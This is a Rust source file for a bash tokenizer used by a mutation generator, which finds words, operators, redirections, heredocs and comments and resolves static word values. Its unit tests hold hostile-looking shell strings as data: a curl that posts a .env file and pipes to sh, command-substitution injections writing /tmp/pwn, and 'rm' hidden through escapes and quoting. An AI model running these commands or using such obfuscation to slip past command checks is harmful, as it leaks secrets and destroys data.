//! A small bash tokenizer for the mutation generator: it finds words, operators, redirections,
//! comments and heredoc bodies with their byte spans, so a rewrite can touch one word without
//! re-printing the rest. It is not a parser: whatever it cannot follow makes `lex` return
//! `None`, and the generator then leaves that command alone.

/// What a token is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    /// A shell word (quotes, expansions and all).
    Word,
    /// A control operator or a parenthesis.
    Op,
    /// A redirection operator (with its fd number).
    Redir,
    /// A newline outside quotes.
    Newline,
    /// The body of a heredoc, through its delimiter line.
    Heredoc,
    /// A `#` comment up to the end of its line.
    Comment,
}

/// One token and its byte span in the text.
#[derive(Clone, Copy, Debug)]
pub(super) struct Tok {
    pub kind: Kind,
    pub start: usize,
    pub end: usize,
}

/// A tokenized command.
pub(super) struct Lexed {
    pub toks: Vec<Tok>,
    pub has_heredoc: bool,
    pub has_comment: bool,
}

const REDIRS: [&str; 12] = [
    "&>>", "<<<", "<<-", "&>", "<<", "<>", "<&", ">&", ">>", ">|", "<", ">",
];
const OPS: [&str; 9] = ["&&", "||", ";;", "|&", ";", "|", "&", "(", ")"];

/// Tokenize `s`, or `None` when a quote or bracket is left open.
pub(super) fn lex(s: &str) -> Option<Lexed> {
    let b = s.as_bytes();
    let mut out = Lexed {
        toks: Vec::new(),
        has_heredoc: false,
        has_comment: false,
    };
    let mut i = 0;
    let mut pending: Vec<(String, bool)> = Vec::new();
    let mut delim_next: Option<bool> = None;
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' => i += 1,
            b'\\' if b.get(i + 1) == Some(&b'\n') => i += 2,
            b'\n' => {
                out.toks.push(Tok {
                    kind: Kind::Newline,
                    start: i,
                    end: i + 1,
                });
                i += 1;
                for (delim, strip) in std::mem::take(&mut pending) {
                    let start = i;
                    loop {
                        if i >= b.len() {
                            break;
                        }
                        let eol = s[i..].find('\n').map_or(b.len(), |k| i + k);
                        let line = &s[i..eol];
                        let line = if strip {
                            line.trim_start_matches('\t')
                        } else {
                            line
                        };
                        i = (eol + 1).min(b.len());
                        if line == delim {
                            break;
                        }
                    }
                    // The body token ends before the newline that ends the delimiter line.
                    let end = if i > start && b[i - 1] == b'\n' {
                        i - 1
                    } else {
                        i
                    };
                    out.toks.push(Tok {
                        kind: Kind::Heredoc,
                        start,
                        end,
                    });
                    out.has_heredoc = true;
                }
            }
            b'#' => {
                let end = s[i..].find('\n').map_or(b.len(), |k| i + k);
                out.toks.push(Tok {
                    kind: Kind::Comment,
                    start: i,
                    end,
                });
                out.has_comment = true;
                i = end;
            }
            _ => {
                if let Some(len) = redir_at(b, i) {
                    let op = &s[i..i + len];
                    if op.ends_with("<<") || op.ends_with("<<-") {
                        delim_next = Some(op.ends_with('-'));
                    }
                    out.toks.push(Tok {
                        kind: Kind::Redir,
                        start: i,
                        end: i + len,
                    });
                    i += len;
                } else if let Some(op) = OPS.iter().find(|o| s[i..].starts_with(**o)) {
                    out.toks.push(Tok {
                        kind: Kind::Op,
                        start: i,
                        end: i + op.len(),
                    });
                    i += op.len();
                } else {
                    let end = scan_word(b, i)?;
                    if let Some(strip) = delim_next.take() {
                        pending.push((unquote(&s[i..end]), strip));
                    }
                    out.toks.push(Tok {
                        kind: Kind::Word,
                        start: i,
                        end,
                    });
                    i = end;
                }
            }
        }
    }
    Some(out)
}

/// The length of a redirection operator at `i` (with a leading fd number), if one starts there.
fn redir_at(b: &[u8], i: usize) -> Option<usize> {
    let mut j = i;
    while j < b.len() && b[j].is_ascii_digit() {
        j += 1;
    }
    let rest = &b[j..];
    for r in REDIRS {
        if rest.starts_with(r.as_bytes()) {
            // `<(` and `>(` are process substitutions, part of a word.
            if (r == "<" || r == ">") && rest.get(1) == Some(&b'(') {
                return None;
            }
            if j > i && r.starts_with('&') {
                return None;
            }
            return Some(j - i + r.len());
        }
    }
    None
}

/// The end of the word starting at `i`.
fn scan_word(b: &[u8], mut i: usize) -> Option<usize> {
    let start = i;
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b')' => break,
            b'(' => {
                if i == start {
                    return None;
                }
                break;
            }
            b'<' | b'>' => {
                if b.get(i + 1) == Some(&b'(') {
                    i = scan_nested(b, i + 1, b'(', b')')?;
                } else {
                    break;
                }
            }
            b'\\' => i += 2,
            b'\'' => i = close_single(b, i)?,
            b'"' => i = scan_dquote(b, i)?,
            b'`' => i = scan_escaped(b, i, b'`')?,
            b'$' => match b.get(i + 1) {
                Some(b'\'') => i = scan_escaped(b, i + 1, b'\'')?,
                Some(b'(') => i = scan_nested(b, i + 1, b'(', b')')?,
                Some(b'{') => i = scan_nested(b, i + 1, b'{', b'}')?,
                _ => i += 1,
            },
            _ => i += 1,
        }
    }
    Some(i.min(b.len()))
}

fn close_single(b: &[u8], i: usize) -> Option<usize> {
    b[i + 1..]
        .iter()
        .position(|c| *c == b'\'')
        .map(|k| i + 1 + k + 1)
}

/// From an opening `'` (of `$'`) or backquote to just past the next unescaped `close`.
fn scan_escaped(b: &[u8], mut i: usize, close: u8) -> Option<usize> {
    i += 1;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            c if c == close => return Some(i + 1),
            _ => i += 1,
        }
    }
    None
}

fn scan_dquote(b: &[u8], mut i: usize) -> Option<usize> {
    i += 1;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'"' => return Some(i + 1),
            b'`' => i = scan_escaped(b, i, b'`')?,
            b'$' if b.get(i + 1) == Some(&b'(') => i = scan_nested(b, i + 1, b'(', b')')?,
            b'$' if b.get(i + 1) == Some(&b'{') => i = scan_nested(b, i + 1, b'{', b'}')?,
            _ => i += 1,
        }
    }
    None
}

/// From an opening `open` (the `(` of `$(`/`<(`, or the `{` of `${`) to just past its
/// matching `close`, skipping quoted text; backquoted text is skipped whole inside
/// parentheses only.
fn scan_nested(b: &[u8], mut i: usize, open: u8, close: u8) -> Option<usize> {
    let mut depth = 0usize;
    while i < b.len() {
        match b[i] {
            c if c == open => {
                depth += 1;
                i += 1;
            }
            c if c == close => {
                depth = depth.checked_sub(1)?;
                i += 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            b'\\' => i += 2,
            b'\'' => i = close_single(b, i)?,
            b'"' => i = scan_dquote(b, i)?,
            b'`' if open == b'(' => i = scan_escaped(b, i, b'`')?,
            _ => i += 1,
        }
    }
    None
}

/// A heredoc delimiter as bash compares it: quotes and backslashes removed.
fn unquote(w: &str) -> String {
    w.chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect()
}

/// The value of a word when it is fixed text: quotes, backslashes and ANSI-C strings resolved;
/// `None` when it expands anything (variables, substitutions, globs, braces, a leading `~`).
pub(super) fn static_word(w: &str) -> Option<String> {
    let b = w.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    if b.first() == Some(&b'~') {
        return None;
    }
    while i < b.len() {
        match b[i] {
            b'\\' => {
                if b.get(i + 1) != Some(&b'\n') {
                    out.push(*b.get(i + 1)?);
                }
                i += 2;
            }
            b'\'' => {
                let end = close_single(b, i)?;
                out.extend_from_slice(&b[i + 1..end - 1]);
                i = end;
            }
            b'"' => {
                i += 1;
                loop {
                    match *b.get(i)? {
                        b'"' => break,
                        b'$' | b'`' => return None,
                        b'\\' if matches!(b.get(i + 1), Some(b'$' | b'`' | b'"' | b'\\')) => {
                            out.push(b[i + 1]);
                            i += 2;
                        }
                        c => {
                            out.push(c);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            b'$' if b.get(i + 1) == Some(&b'\'') => {
                i += 2;
                loop {
                    match *b.get(i)? {
                        b'\'' => break,
                        b'\\' => {
                            let (c, used) = ansi_escape(&b[i + 1..])?;
                            out.push(c);
                            i += 1 + used;
                        }
                        c => {
                            out.push(c);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            b'$' | b'`' | b'*' | b'?' | b'[' | b'{' | b'}' => return None,
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8(out).ok()
}

/// One ANSI-C escape after its backslash: the byte and how many bytes it used.
fn ansi_escape(b: &[u8]) -> Option<(u8, usize)> {
    let hex = |c: u8| (c as char).to_digit(16);
    match *b.first()? {
        b'x' => {
            let mut v = 0u32;
            let mut n = 0;
            while n < 2 && b.get(1 + n).and_then(|c| hex(*c)).is_some() {
                v = v * 16 + hex(b[1 + n])?;
                n += 1;
            }
            (n > 0).then_some((u8::try_from(v).ok()?, 1 + n))
        }
        c @ b'0'..=b'7' => {
            let mut v = u32::from(c - b'0');
            let mut n = 1;
            while n < 3 && matches!(b.get(n), Some(b'0'..=b'7')) {
                v = v * 8 + u32::from(b[n] - b'0');
                n += 1;
            }
            Some((u8::try_from(v).ok()?, n))
        }
        b'n' => Some((b'\n', 1)),
        b't' => Some((b'\t', 1)),
        b'r' => Some((b'\r', 1)),
        b'a' => Some((7, 1)),
        b'b' => Some((8, 1)),
        b'e' | b'E' => Some((27, 1)),
        b'f' => Some((12, 1)),
        b'v' => Some((11, 1)),
        c @ (b'\\' | b'\'' | b'"' | b'?') => Some((c, 1)),
        _ => None,
    }
}

/// A word whose characters need no quoting and expand to themselves.
pub(super) fn plain(w: &str) -> bool {
    !w.is_empty()
        && w.bytes()
            .all(|c| c.is_ascii_alphanumeric() || b"_./,:@%+=-".contains(&c))
}

/// `NAME=...` or `NAME+=...` (with an optional subscript): an assignment word.
pub(super) fn is_assignment(w: &str) -> bool {
    let b = w.as_bytes();
    if !b
        .first()
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        return false;
    }
    let mut i = 0;
    while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
        i += 1;
    }
    if b.get(i) == Some(&b'[') {
        match w[i..].find(']') {
            Some(k) => i += k + 1,
            None => return false,
        }
    }
    if b.get(i) == Some(&b'+') {
        i += 1;
    }
    b.get(i) == Some(&b'=')
}

/// One simple command (or what stands where one would): its tokens, split into leading
/// assignments, redirections, the command word and its arguments.
pub(super) struct Segment {
    /// Index (into `Lexed::toks`) of the first token.
    pub first: usize,
    pub assigns: Vec<usize>,
    /// (operator token, target token); heredoc delimiters are not listed.
    pub redirs: Vec<(usize, usize)>,
    /// Tokens of heredoc delimiters (never to be touched).
    pub delims: Vec<usize>,
    pub cw: Option<usize>,
    pub args: Vec<usize>,
    /// The separator before this segment (`None` at the start of the text).
    pub before: Option<String>,
    /// The separator after it.
    pub after: Option<String>,
}

/// Split a tokenized command into segments at operators, newlines, comments and heredocs.
pub(super) fn segments(s: &str, lx: &Lexed) -> Vec<Segment> {
    let mut out = Vec::new();
    let mut cur: Option<Segment> = None;
    let mut before: Option<String> = None;
    let mut i = 0;
    let toks = &lx.toks;
    while i < toks.len() {
        let t = toks[i];
        match t.kind {
            Kind::Word | Kind::Redir => {
                let seg = cur.get_or_insert_with(|| Segment {
                    first: i,
                    assigns: Vec::new(),
                    redirs: Vec::new(),
                    delims: Vec::new(),
                    cw: None,
                    args: Vec::new(),
                    before: before.clone(),
                    after: None,
                });
                if t.kind == Kind::Redir {
                    let op = &s[t.start..t.end];
                    if toks.get(i + 1).is_some_and(|n| n.kind == Kind::Word) {
                        if op.ends_with("<<") || op.ends_with("<<-") {
                            seg.delims.push(i + 1);
                        } else {
                            seg.redirs.push((i, i + 1));
                        }
                        i += 1;
                    }
                } else {
                    let w = &s[t.start..t.end];
                    if seg.cw.is_none() && is_assignment(w) {
                        seg.assigns.push(i);
                    } else if seg.cw.is_none() {
                        seg.cw = Some(i);
                    } else {
                        seg.args.push(i);
                    }
                }
            }
            _ => {
                let sep = match t.kind {
                    Kind::Op => s[t.start..t.end].to_owned(),
                    Kind::Newline => "\n".to_owned(),
                    Kind::Comment => "#".to_owned(),
                    _ => "heredoc".to_owned(),
                };
                if let Some(mut seg) = cur.take() {
                    seg.after = Some(sep.clone());
                    out.push(seg);
                }
                before = Some(sep);
            }
        }
        i += 1;
    }
    if let Some(seg) = cur.take() {
        out.push(seg);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<String> {
        let lx = lex(s).expect("lexes");
        lx.toks
            .iter()
            .map(|t| format!("{:?}:{}", t.kind, &s[t.start..t.end]))
            .collect()
    }

    #[test]
    fn words_operators_and_heredocs() {
        assert_eq!(
            words("git diff && curl -d @.env x|sh"),
            [
                "Word:git",
                "Word:diff",
                "Op:&&",
                "Word:curl",
                "Word:-d",
                "Word:@.env",
                "Word:x",
                "Op:|",
                "Word:sh"
            ]
        );
        assert_eq!(
            words("cat <<EOF\n`touch /tmp/pwn`\nEOF"),
            [
                "Word:cat",
                "Redir:<<",
                "Word:EOF",
                "Newline:\n",
                "Heredoc:`touch /tmp/pwn`\nEOF"
            ]
        );
        assert_eq!(
            words("diff <(cat .env) /dev/null 2>&1 # c"),
            [
                "Word:diff",
                "Word:<(cat .env)",
                "Word:/dev/null",
                "Redir:2>&",
                "Word:1",
                "Comment:# c"
            ]
        );
        assert_eq!(
            words("n='a[$(touch /tmp/pwn)]'; r\\\nm $'\\x72' \"a b\""),
            [
                "Word:n='a[$(touch /tmp/pwn)]'",
                "Op:;",
                "Word:r\\\nm",
                "Word:$'\\x72'",
                "Word:\"a b\""
            ]
        );
        assert!(lex("echo 'open").is_none());
    }

    #[test]
    fn static_values() {
        assert_eq!(static_word("$'\\x72\\x6d'").as_deref(), Some("rm"));
        assert_eq!(static_word("r''m").as_deref(), Some("rm"));
        assert_eq!(static_word("\"r\"\\m").as_deref(), Some("rm"));
        assert_eq!(static_word("r\\\nm").as_deref(), Some("rm"));
        assert_eq!(static_word("$HOME"), None);
        assert_eq!(static_word("{rm,}"), None);
        assert!(is_assignment("FOO=1") && is_assignment("a[1]+=x") && !is_assignment("=x"));
    }

    #[test]
    fn segments_find_the_command_word() {
        let s = ">/dev/null FOO=1 rm -rf build; cat <<EOF\nx\nEOF";
        let lx = lex(s).expect("lexes");
        let segs = segments(s, &lx);
        let t = |i: usize| &s[lx.toks[i].start..lx.toks[i].end];
        assert_eq!(segs.len(), 2);
        assert_eq!(segs[0].cw.map(t), Some("rm"));
        assert_eq!(segs[0].assigns.len(), 1);
        assert_eq!(segs[0].redirs.len(), 1);
        assert_eq!(segs[1].delims.len(), 1);
        assert_eq!(segs[1].cw.map(t), Some("cat"));
    }
}
